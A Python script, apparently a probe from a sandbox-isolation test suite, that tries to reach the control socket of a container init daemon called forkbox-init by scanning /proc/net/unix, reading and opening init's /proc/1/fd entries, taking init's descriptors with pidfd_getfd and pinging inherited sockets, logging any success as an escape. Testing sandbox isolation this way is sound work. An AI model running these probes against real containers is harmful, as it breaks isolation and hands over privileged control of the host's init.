"""Reach forkbox-init's control channel: its socket path from /proc/net/unix, /proc/1/fd, pidfd_getfd, inherited sockets, then speak the init wire protocol ('ping')."""
import os

from _attack import ESCAPES, NOTES, en, finish, libc, sysc  # noqa: F401

import json  # noqa: E402
import socket  # noqa: E402
import struct  # noqa: E402

SYS_pidfd_open, SYS_pidfd_getfd = 434, 438
FB_MSG_REQUEST, FB_MSG_RESULT = 1, 2


def ping(s, how):
    """Sends an init 'ping' request; an answer means we hold the daemon's channel."""
    body = json.dumps({"op": "ping"}).encode()
    try:
        s.settimeout(3)
        s.sendall(struct.pack("<IHHI", len(body), FB_MSG_REQUEST, 0, 0) + body)
        head = s.recv(12)
        if len(head) == 12:
            n, t, _, _ = struct.unpack("<IHHI", head)
            data = s.recv(min(n, 4096))
            ESCAPES.append("%s: init answered a ping (type %d): %r" % (how, t, data[:80]))
            return
        NOTES.append("%s: no answer to ping" % how)
    except OSError as e:
        NOTES.append("%s: ping failed: %s" % (how, en(e.errno)))


def main():
    paths = []
    with open("/proc/net/unix") as f:
        for line in f.readlines()[1:]:
            parts = line.split()
            if len(parts) >= 8:
                paths.append(parts[7])
    NOTES.append("/proc/net/unix names %d bound sockets" % len(paths))
    for p in paths:
        name = "\0" + p[1:] if p.startswith("@") else p
        for prefix in ("", "/proc/1/root", "/proc/1/cwd/..", "/proc/self/root"):
            if name.startswith("\0") and prefix:
                continue
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                s.connect(prefix + name if not name.startswith("\0") else name)
            except OSError as e:
                if not prefix:
                    NOTES.append("connect %s: %s" % (p, en(e.errno)))
                s.close()
                continue
            ping(s, "connected to %s%s" % (prefix, p))
            s.close()
    # init's fd table
    try:
        fds = os.listdir("/proc/1/fd")
        NOTES.append("/proc/1/fd lists fd numbers %s (names only)" % fds)
    except OSError as e:
        fds = ["0", "1", "2", "3", "4"]
        NOTES.append("list /proc/1/fd: %s" % en(e.errno))
    for n in fds:
        path = "/proc/1/fd/%s" % n
        try:
            target = os.readlink(path)
            ESCAPES.append("readlink %s = %s" % (path, target))
        except OSError as e:
            if n == fds[0]:
                NOTES.append("readlink %s: %s" % (path, en(e.errno)))
        try:
            fd = os.open(path, os.O_RDWR)
            ESCAPES.append("opened %s" % path)
            os.close(fd)
        except OSError as e:
            if n == fds[0]:
                NOTES.append("open %s: %s" % (path, en(e.errno)))
    pfd, e = sysc(SYS_pidfd_open, 1, 0)
    if pfd >= 0:
        for n in range(0, 8):
            fd, e = sysc(SYS_pidfd_getfd, pfd, n, 0)
            if fd >= 0:
                s = socket.socket(fileno=fd)
                ESCAPES.append("pidfd_getfd took init's fd %d" % n)
                if n == 3:
                    try:
                        conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                        conn.connect(s.getsockname())
                        ping(conn, "via init's listening socket")
                    except OSError:
                        pass
                s.detach()
            elif n == 3:
                NOTES.append("pidfd_getfd(init, 3): %s" % en(e))
    # our own fds: any socket among them could be a channel
    for n in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink("/proc/self/fd/" + n)
        except OSError:
            continue
        if target.startswith("socket:"):
            s = socket.socket(fileno=int(n))
            ping(s, "inherited socket fd %s" % n)
            s.detach()
    NOTES.append("no socket among our inherited fds")


if __name__ == "__main__":
    finish(main)
